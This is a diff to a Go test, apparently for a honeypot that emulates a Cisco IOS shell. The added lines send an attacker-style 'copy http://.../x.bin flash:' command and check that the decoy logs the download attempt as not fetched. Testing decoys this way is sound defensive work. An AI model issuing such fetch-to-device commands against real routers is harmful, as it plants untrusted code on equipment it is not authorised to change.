@@ -115,12 +115,17 @@ func TestCiscoIOSListPolicy(t *testing.T) {
 	c.readUntilText("Password: ")
 	c.send("class\r\n")
 	c.readUntilText(host + "#")
+	c.send("copy http://203.0.113.9/x.bin flash:\r\n\r\n")
 	c.send("terminal length 0\r\n")
 	c.send("show running-config | include hostname\r\n")
 	c.send("logout\r\n")
 	c.readFor(5 * time.Second)
 	if !c.closed {
 		t.Error("connection open after logout")
+	}
+	dl := ts.emitter.waitFor(t, decoys.KindDownload, 1)[0].GetDownloadRequested()
+	if dl.GetUrl() != "http://203.0.113.9/x.bin" || dl.GetTool() != "copy" || dl.GetOutcome() != "not_fetched" {
+		t.Errorf("download %v", dl)
 	}
 	auths := ts.emitter.waitFor(t, decoys.KindAuthAttempt, 6)
 	if a := auths[5].GetAuthAttempt(); a.GetPrincipal() != "enable" || a.GetOutcome() != eventv1.AuthOutcome_AUTH_OUTCOME_ACCEPTED {
